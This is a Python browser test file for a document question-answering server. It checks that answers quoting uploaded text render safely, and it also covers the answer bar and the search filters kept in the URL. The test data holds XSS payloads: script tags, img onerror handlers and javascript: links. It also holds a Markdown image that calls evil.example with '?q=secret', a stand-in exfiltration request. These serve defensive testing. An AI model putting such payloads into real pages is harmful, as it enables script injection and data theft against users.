"""Answers and search in a real browser against a real Cairn server (personal install, extractive answers).

Given documents whose text carries prompt-injected Markdown and HTML, when their sentences are
quoted in an answer, then nothing executes and no request leaves the server; the answer's bar
names the model and copies, regenerates and rates the answer; a streamed answer cut at the token
limit is marked so; search filters live in the URL and Back / reload restore them.
"""

from __future__ import annotations

import json
import re
import time
from typing import Any

import pytest

from tests.e2e.browser_fixtures import CHROMIUM, CairnServer, browser_page, cairn_server  # noqa: F401 (fixtures)

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is not installed"),
]

INJECTED = (
    "The zebra rota is **posted weekly** on the board <script>window.__xss = 'script'</script> by the warden.\n\n"
    "The zebra keeper feeds them at noon <img src=x onerror=\"window.__xss='img'\"> in the east paddock.\n\n"
    "The zebra vet visits on Mondays, see [the rota](javascript:window.__xss='link') and "
    "![secret chart](https://evil.example/?q=secret) for details.\n"
)
LIGHTHOUSE = (
    "# Lighthouse\n\nThe zebra crossing by the lighthouse is painted every spring by the keeper.\n"
)
NOTES = "Field notes\n\nThe zebra herd grazed by the river all afternoon\n"
INGEST_TIMEOUT = 45.0


def _upload(base: str, collection: int, name: str, text: str) -> int:
    import requests

    document = requests.post(
        f"{base}/api/v1/collections/{collection}/documents",
        timeout=60,
        files={"file": (name, text.encode(), "text/plain")},
    ).json()
    deadline = time.monotonic() + INGEST_TIMEOUT
    while (
        requests.get(f"{base}/api/v1/documents/{document['id']}", timeout=30).json()["status"]
        != "INDEXED"
    ):
        assert time.monotonic() < deadline
        time.sleep(0.5)
    return int(document["id"])


@pytest.fixture(scope="module")
def zoo(cairn_server: CairnServer) -> tuple[str, int]:  # noqa: F811
    import requests

    base = cairn_server.url
    collection = requests.post(
        f"{base}/api/v1/collections", json={"name": "Zoo"}, timeout=30
    ).json()["id"]
    _upload(base, collection, "rota.txt", INJECTED)
    _upload(base, collection, "lighthouse.md", LIGHTHOUSE)
    _upload(
        base, collection, "notes.txt", NOTES
    )  # plain text (the other two are sniffed as Markdown/HTML)
    return base, collection


def _requests_outside(page: Any, base: str) -> list[str]:
    outside: list[str] = []
    page.on(
        "request",
        lambda request: outside.append(request.url) if not request.url.startswith(base) else None,
    )
    return outside


def _assert_nothing_ran(page: Any) -> None:
    assert page.evaluate("() => window.__xss === undefined"), page.evaluate("() => window.__xss")
    answer = page.locator("#ask-result .answer__text")
    assert answer.locator("script, img, iframe, [onerror]").count() == 0
    hrefs = answer.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert all(h.startswith("#cite-") or h.startswith("https://") for h in hrefs), hrefs
    assert all("javascript" not in h for h in hrefs), hrefs


def test_injected_markdown_renders_safely_and_the_answer_bar_works(zoo, browser_page: Any) -> None:  # noqa: F811
    import requests

    base, collection = zoo
    page = browser_page
    outside = _requests_outside(page, base)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=base)
    page.goto(f"{base}/collections/{collection}/")

    # When the user asks a question whose answer quotes the injected sentences
    page.get_by_label("Question").fill(
        "When does the zebra vet visit and who posts the zebra rota and feeds the zebra?"
    )
    page.get_by_role("button", name="Ask", exact=True).click()
    page.locator("#ask-result [data-role='answer-bar']").wait_for(timeout=30_000)

    # Then the quotes are shown (ingestion kept the text, not the markup), nothing ran, nothing was fetched
    answer = page.locator("#ask-result .answer__text")
    # (the extractive answer quotes only its best sentences: the label and at least one quote)
    assert "zebra" in answer.inner_text().lower() and answer.locator("p").count() >= 2
    assert answer.locator("a.cite-ref").count() >= 1  # [n] markers still open the citations
    _assert_nothing_ran(page)

    # The bar names the model; Copy puts the answer's text on the clipboard
    assert (
        page.locator("#ask-result [data-role='answer-model']").inner_text() == "Model: extractive"
    )
    assert page.locator("#ask-result [data-role='answer-truncated']").count() == 0
    page.locator("#ask-result [data-action='copy-answer']").click()
    page.locator("#ask-result .answer-bar__status", has_text="Copied").wait_for()
    copied = page.evaluate("() => navigator.clipboard.readText()")
    assert "zebra" in copied and re.search(r"\[\d\]", copied), copied

    # Thumbs down with a comment is stored with the question; the owner's export has it
    page.locator("#ask-result [data-rating='down']").click()
    page.locator("#ask-result .answer-bar__status", has_text="Thank you").wait_for()
    page.locator("#ask-result [data-role='feedback-form'] textarea").fill("Quotes the page's HTML")
    page.locator("#ask-result [data-role='feedback-form'] button[type='submit']").click()
    page.locator("#ask-result [data-role='feedback-form']").wait_for(state="hidden")
    exported = requests.get(f"{base}/api/v1/collections/{collection}/feedback/export", timeout=30)
    rows = [json.loads(line) for line in exported.text.splitlines()]
    assert [(r["rating"], r["comment"]) for r in rows] == [("down", "Quotes the page's HTML")], rows
    assert rows[0]["question"].startswith("When does the zebra vet visit") and rows[0]["turn"]
    assert rows[0]["expected_documents"] and rows[0]["model"] == "extractive"

    # Regenerate asks the same question again as a new turn of the conversation
    page.locator("#ask-result [data-action='regenerate']").click()
    page.wait_for_function(
        "() => document.querySelectorAll('#ask-thread .turn').length === 1"
        " && document.querySelector('#ask-result [data-role=\"answer-bar\"]')",
        timeout=30_000,
    )
    conversation = re.search(r"conversation=(\d+)", page.url).group(1)
    turns = requests.get(f"{base}/api/v1/conversations/{conversation}", timeout=30).json()["turns"]
    assert [t["question"] for t in turns] == [rows[0]["question"]] * 2
    _assert_nothing_ran(page)
    assert outside == [], outside
    assert not page.script_errors, page.script_errors


def test_a_streamed_answer_cut_at_the_limit_is_marked_and_its_markdown_stays_inert(
    zoo,
    browser_page: Any,  # noqa: F811
) -> None:
    base, collection = zoo
    page = browser_page
    outside = _requests_outside(page, base)
    answer = (
        "## Summary\n\n- first *point* [1]\n- see [docs](https://example.org/docs)\n\n"
        "**Rota** <script>window.__xss='raw'</script>\n"
        "<img src=x onerror=\"window.__xss='stream'\"> ![secret chart](https://evil.example/?q=secret) "
        "[click](javascript:window.__xss='href')\n\n```\n<script>window.__xss='code'</script>\n```\nAnd then"
    )
    citation = {
        "number": 1,
        "chunk_id": 1,
        "document_id": 1,
        "title": "rota.txt",
        "page": None,
        "heading": "",
        "text": "The zebra rota.",
    }
    events = [
        ("start", {"generation_id": "g", "passages": 1}),
        *[("token", {"text": answer[i : i + 7]}) for i in range(0, len(answer), 7)],
        ("citations", {"citation_mode": "marked", "citations": [citation], "passages": [citation]}),
        (
            "done",
            {
                "answer": answer,
                "reasoning": "",
                "backend": "transformers",
                "model": "Qwen2.5-7B-Instruct",
                "generated": True,
                "finish_reason": "length",
                "truncated": True,
                "metrics": {},
            },
        ),
    ]
    body = "".join(f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in events)
    # The model's stream, as the server would send it (a real model cannot be told to write this).
    page.route(
        re.compile(r".*/messages$"),
        lambda route: route.fulfill(
            status=200, headers={"Content-Type": "text/event-stream"}, body=body
        ),
    )
    page.goto(f"{base}/collections/{collection}/")
    page.get_by_label("Question").fill("Summarise the rota")
    page.get_by_role("button", name="Ask", exact=True).click()
    page.locator("#ask-result [data-role='answer-truncated']").wait_for(timeout=30_000)
    assert (
        page.locator("#ask-result [data-role='answer-model']").inner_text()
        == "Model: Qwen2.5-7B-Instruct"
    )
    rendered = page.locator("#ask-result .answer__text")
    assert (
        rendered.locator("h4", has_text="Summary").count() == 1
        and rendered.locator("li").count() == 2
    )
    assert rendered.locator("em", has_text="point").count() == 1
    link = rendered.locator("a.md-link")
    assert link.get_attribute("href") == "https://example.org/docs"
    assert set((link.get_attribute("rel") or "").split()) == {"noopener", "noreferrer", "nofollow"}
    assert "window.__xss='code'" in rendered.locator("pre code").inner_text()
    assert rendered.locator("strong", has_text="Rota").count() == 1
    text = rendered.inner_text()
    assert (
        "<script>window.__xss='raw'</script>" in text and "onerror" in text
    )  # shown as the characters they are
    assert rendered.locator(".md-image").inner_text() == "[image: secret chart]"
    assert rendered.locator("a.cite-ref").count() == 1
    _assert_nothing_ran(page)
    assert outside == [], outside
    assert not page.script_errors, page.script_errors


def test_search_filters_live_in_the_url_and_back_and_reload_restore_them(
    zoo,
    browser_page: Any,  # noqa: F811
) -> None:
    base, collection = zoo
    page = browser_page
    page.goto(f"{base}/collections/{collection}/")

    def titles() -> list[str]:
        page.locator("#search-results .results, #search-results .empty").first.wait_for(
            timeout=30_000
        )
        return page.locator("#search-results .result__title").all_inner_texts()

    # An unfiltered search finds all three documents, one group each
    page.get_by_label("Search this collection").fill("zebra")
    page.get_by_role("button", name="Search", exact=True).click()
    page.wait_for_url(re.compile(r"q=zebra"))
    assert sorted(titles()) == ["lighthouse.md", "notes.txt", "rota.txt"]
    assert page.locator("#search-results .result[data-document-id] .result__passage").count() >= 3

    # Filtering by file type narrows it, and the filter goes into the URL
    page.locator("#search-filters summary").click()
    page.get_by_label("File type").select_option("text")
    page.get_by_label("Mode").select_option("lexical")
    page.get_by_role("button", name="Search", exact=True).click()
    page.wait_for_url(re.compile(r"kind=text"))
    assert "mode=lexical" in page.url
    page.wait_for_function(
        "() => document.querySelectorAll('#search-results .result').length === 1"
    )
    assert titles() == ["notes.txt"]

    # A reload restores the filters and the filtered results
    page.reload()
    page.wait_for_function(
        "() => document.querySelectorAll('#search-results .result').length === 1"
    )
    assert page.get_by_label("File type").input_value() == "text"
    assert page.get_by_label("Mode").input_value() == "lexical"
    assert titles() == ["notes.txt"]

    # Back returns to the unfiltered search, its form and results
    page.go_back()
    page.wait_for_function(
        "() => document.querySelectorAll('#search-results .result').length === 3"
    )
    assert "kind=" not in page.url and page.get_by_label("File type").input_value() == ""
    assert sorted(titles()) == ["lighthouse.md", "notes.txt", "rota.txt"]

    # A malformed attribute filter is explained, not sent
    page.get_by_label("Document attributes").fill("no equals sign")
    page.get_by_role("button", name="Search", exact=True).click()
    page.locator("#search-results [role='alert']", has_text="key=value").wait_for()
    assert not page.script_errors, page.script_errors
